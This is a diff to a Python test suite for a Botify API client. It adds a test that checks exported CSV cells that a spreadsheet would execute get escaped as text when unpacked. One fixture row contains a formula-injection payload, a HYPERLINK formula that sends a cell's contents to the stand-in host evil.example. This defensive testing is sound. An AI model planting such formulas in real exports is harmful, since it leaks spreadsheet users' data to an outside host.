@@ -1,6 +1,8 @@
 """botify.py against the fake Botify API: the token check, paginated lists, the export job from start to CSV,
 the faults (refused token, rate limits, server errors, failed jobs, broken downloads) and the token's secrecy."""
 
+import csv
+import gzip
 import logging
 import stat
 import time
@@ -280,3 +282,14 @@ async def test_the_token_appears_in_no_log_line_and_no_error(fake, caplog):
     logged = "\n".join(f"{r.getMessage()} {r.args}" for r in caplog.records)
     for token in (TOKEN, "wrong-token-0123456789"):
         assert token not in logged and token not in " ".join(errors)
+
+
+def test_an_export_is_unpacked_with_every_cell_a_spreadsheet_would_run_made_text(tmp_path):
+    rows = [["url", "metadata.title.content", "depth"],
+            ["https://www.example.com/", '=HYPERLINK("http://evil.example/?leak="&A1,"x")', "-1"],
+            ["https://www.example.com/a", "@SUM(A1:A9)", "2"]]
+    packed = tmp_path / "export.csv.gz"
+    with gzip.open(packed, "wt", newline="") as file: csv.writer(file).writerows(rows)
+    botify.gunzip(packed, tmp_path / "export.csv")
+    with (tmp_path / "export.csv").open(newline="") as file:
+        assert list(csv.reader(file)) == [rows[0], [rows[1][0], "'" + rows[1][1], "-1"], [rows[2][0], "'@SUM(A1:A9)", "2"]]
